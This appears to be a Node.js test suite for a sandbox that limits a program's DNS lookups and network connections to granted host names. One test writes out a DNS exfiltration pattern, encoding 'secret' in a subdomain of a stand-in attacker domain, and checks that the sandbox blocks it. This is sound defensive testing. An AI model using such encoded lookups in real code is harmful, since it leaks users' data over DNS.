// Programs in a box and the names they use.
import assert from 'node:assert';
import dgram from 'node:dgram';
import { test } from 'node:test';
import { boxed, conf, has6, skip, users } from './boxed.mjs';
import { serve } from './dns.mjs';

for (const somebody of users) test(`by name, in all the ways there are${somebody ? ', as an ordinary user' : ''}`, { skip }, async (t) => {
  const { out, names, stderr } = await boxed(t, ['api.example.com:8080'], `
    await say(() => dns.promises.lookup('api.example.com'));
    await say(() => new Promise((done, fail) => dns.lookup('api.example.com', { all: true }, (e, a) => e ? fail(e) : done(a))));
    await say(() => dns.promises.resolve4('api.example.com'));
    await say(() => new Promise((done, fail) => dns.resolve('api.example.com', (e, a) => e ? fail(e) : done(a))));
    await say(() => new dns.promises.Resolver({ timeout: 2000, tries: 1 }).resolve4('api.example.com'));
    await say(() => new Promise((done, fail) => new dns.Resolver().resolve4('api.example.com', { ttl: true }, (e, a) => e ? fail(e) : done(a[0].address))));
    await say(() => fetch('http://api.example.com:8080/').then((r) => r.text()));
    await say(() => get('http://api.example.com:8080/'));
    await say(() => connect(8080, 'api.example.com'));`, { somebody });
  const hello = 'hello api.example.com:8080';
  assert.deepEqual(out, [{ address: '10.53.9.1', family: 4 }, [{ address: '10.53.9.1', family: 4 }], ['10.53.9.1'], ['10.53.9.1'], ['10.53.9.1'], '10.53.9.1', hello, hello, 'connected']);
  assert.deepEqual(names, ['api.example.com']);
  assert.doesNotMatch(stderr, /net\.connect/);
});

test('datagrams by name', { skip }, async (t) => {
  const echo = dgram.createSocket('udp4').on('message', (m, from) => echo.send(`${m}!`, from.port, from.address));
  await new Promise((done) => echo.bind(8080, '10.53.9.1', done));
  t.after(() => echo.close());
  const { out } = await boxed(t, ['api.example.com:8080'], `
    const send = (port, host, connect) => new Promise((done, fail) => {
      const s = require('dgram').createSocket('udp4');
      const end = (error, m) => { s.close(); if (error) fail(error); else done(String(m)); };
      s.on('error', end).on('message', (m) => end(null, m));
      if (connect) s.connect(port, host, (error) => { if (error) end(error); else s.send('hi', (e) => e && end(e)); });
      else s.send('hi', port, host, (e) => e && end(e));
    });
    await say(() => send(8080, 'api.example.com'));
    await say(() => send(8080, 'api.example.com', true));
    await say(() => send(8081, 'api.example.com'));
    await say(() => send(8080, '10.53.9.2'));`);
  assert.deepEqual(out, ['hi!', 'hi!', 'EACCES', 'EACCES']);
});

test('IPv6: addresses, and name servers', { skip: skip || (!has6 && 'no IPv6') }, async (t) => {
  const { out, log } = await boxed(t, ['six.wild.example:8080', 'api.example.com:8080'], `
    await say(() => fetch('http://six.wild.example:8080/').then((r) => r.text()));
    await say(() => dns.promises.resolve6('six.wild.example'));
    await say(() => fetch('http://api.example.com:8080/').then((r) => r.text()));
    out.push(dns.getServers());`, { server: '::1', text: 'nameserver ::1\n' });
  assert.deepEqual(out, ['hello six.wild.example:8080', ['2001:db8:53::1'], 'hello api.example.com:8080', ['::1']]);
  assert.ok(log.length > 0);
});

test('CNAMEs, wildcards, other types, answers that come over TCP', { skip }, async (t) => {
  const { out, log } = await boxed(t, ['*.wild.example'], `
    await say(() => fetch('http://www.wild.example:8080/').then((r) => r.text()));
    await say(() => dns.promises.resolveTxt('txt.wild.example'));
    await say(() => dns.promises.resolve4('www.wild.example'));
    await say(() => dns.promises.resolve4('long.wild.example').then((a) => a.length));
    await say(() => dns.promises.lookup('long.wild.example', { all: true }).then((a) => a.length));
    await say(() => dns.promises.resolve4('none.wild.example'));
    await say(() => dns.promises.lookup('none.wild.example'));`);
  assert.deepEqual(out, ['hello www.wild.example:8080', [['hello']], ['10.53.9.1'], 60, 60, 'ENOTFOUND', 'ENOTFOUND']);
  assert.ok(log.some((q) => q.tcp && q.name === 'long.wild.example'));
});

test('a name that is not granted never leaves, and the fix is told', { skip }, async (t) => {
  const { out, log, stderr } = await boxed(t, ['api.example.com:8080'], `
    await say(() => dns.promises.lookup('c2VjcmV0.evil.net'));
    await say(() => dns.promises.resolve4('c2VjcmV0.evil.net'));
    await say(() => new dns.promises.Resolver().resolveTxt('c2VjcmV0.evil.net'));
    await say(() => fetch('http://c2VjcmV0.evil.net/'));`);
  assert.deepEqual(out.slice(0, 3), ['EACCES', 'EACCES', 'EACCES']);
  assert.deepEqual(log.map((q) => q.name), []);
  assert.match(stderr, /npsx grant app net\.connect:c2VjcmV0\.evil\.net/);
});

test('names that lead inside, and addresses that no name led to', { skip }, async (t) => {
  const { out } = await boxed(t, ['*.wild.example', 'api.example.com:8080'], `
    await say(() => connect(8080, 'inside.wild.example'));
    await say(() => connect(8080, '10.53.9.2'));
    await say(() => connect(8081, 'api.example.com'));`);
  assert.deepEqual(out, ['EACCES', 'EACCES', 'EACCES']);
});

test('servers are shown as they are', { skip }, async (t) => {
  const { out } = await boxed(t, ['api.example.com:8080', '10.53.9.2:53'], `
    const r = new dns.Resolver();
    out.push(dns.getServers(), dns.promises.getServers(), r.getServers());
    await say(() => r.setServers(['127.53.0.1']));
    r.setServers(['10.53.9.2']);
    out.push(r.getServers(), dns.getServers());`, { text: 'nameserver 127.53.0.1\nnameserver 2001:db8::53\n' });
  const servers = ['127.53.0.1', '2001:db8::53'];
  assert.deepEqual(out, [servers, servers, servers, 'EACCES', ['10.53.9.2'], servers]);
});

test('a server of its own, granted as an address', { skip }, async (t) => {
  const other = await serve('10.53.9.2', ({ name }) => ({ answers: [[name, 'A', 60, '10.53.9.1']] }));
  t.after(other.close);
  const { out, log } = await boxed(t, ['own.example:8080', '10.53.9.2:53'], `
    const r = new dns.promises.Resolver();
    r.setServers(['10.53.9.2']);
    await say(() => r.resolve4('own.example'));`);
  assert.deepEqual(out, [['10.53.9.1']]);
  assert.deepEqual([other.log.length, log.length], [1, 0]);
});

test('the system\'s server, granted as an address, and named by the program', { skip }, async (t) => {
  const { out, log } = await boxed(t, ['api.example.com:8080', '127.53.0.0/16'], `
    const r = new dns.promises.Resolver();
    r.setServers(['127.53.0.1']);
    out.push(r.getServers());
    await say(() => r.resolve4('api.example.com'));
    await say(() => fetch('http://api.example.com:8080/').then((r) => r.text()));`);
  assert.deepEqual(out, [['127.53.0.1'], ['10.53.9.1'], 'hello api.example.com:8080']);
  assert.ok(log.length > 0);
});

test('search domains and /etc/hosts', { skip }, async (t) => {
  const { out, names } = await boxed(t, ['db:8080', 'byhosts.example:8080', 'localhost:8080'], `
    await say(() => fetch('http://db:8080/').then((r) => r.text()));
    await say(() => fetch('http://byhosts.example:8080/').then((r) => r.text()));
    await say(() => fetch('http://localhost:8080/').then((r) => r.text()));`, { text: 'nameserver 127.53.0.1\nsearch corp.example\n', inHosts: '10.53.9.1 byhosts.example\n127.0.0.1 localhost\n' });
  assert.deepEqual(out, ['hello db:8080', 'hello byhosts.example:8080', 'hello localhost:8080']);
  assert.deepEqual(names, ['db.corp.example']);
});

test('the first server is dead', { skip }, async (t) => {
  const { out } = await boxed(t, ['api.example.com:8080'], `
    await say(() => fetch('http://api.example.com:8080/').then((r) => r.text()));
    await say(() => dns.promises.resolve4('api.example.com'));`, { text: 'nameserver 127.53.0.9\nnameserver 127.53.0.1\noptions timeout:1\n' });
  assert.deepEqual(out, ['hello api.example.com:8080', ['10.53.9.1']]);
});

test('another resolv.conf meanwhile', { skip }, async (t) => {
  const second = await serve('127.53.0.2', ({ name }) => ({ answers: [[name, 'A', 0, '10.53.9.2']] }));
  t.after(second.close);
  const { out } = await boxed(t, ['*.wild.example'], `
    await say(() => dns.promises.resolve4('www.wild.example'));
    await say(() => fetch('http://www.wild.example:8080/other').then((r) => r.text()));
    await say(() => dns.promises.resolve4('after.wild.example'));
    await say(() => dns.promises.lookup('after.wild.example'));`, { onRequest: () => conf('nameserver 127.53.0.2\n') });
  assert.deepEqual(out, [['10.53.9.1'], 'hello www.wild.example:8080', ['10.53.9.2'], { address: '10.53.9.2', family: 4 }]);
});

test('without a box nothing changes', { skip }, async (t) => {
  const { out, names } = await boxed(t, ['api.example.com:8080'], `
    await say(() => dns.promises.resolve4('api.example.com'));
    await say(() => dns.promises.lookup('api.example.com'));
    out.push(dns.getServers());`, { args: ['--box=off'] });
  assert.deepEqual(out, [['10.53.9.1'], { address: '10.53.9.1', family: 4 }, ['127.53.0.1']]);
  assert.deepEqual(names, ['api.example.com']);
});
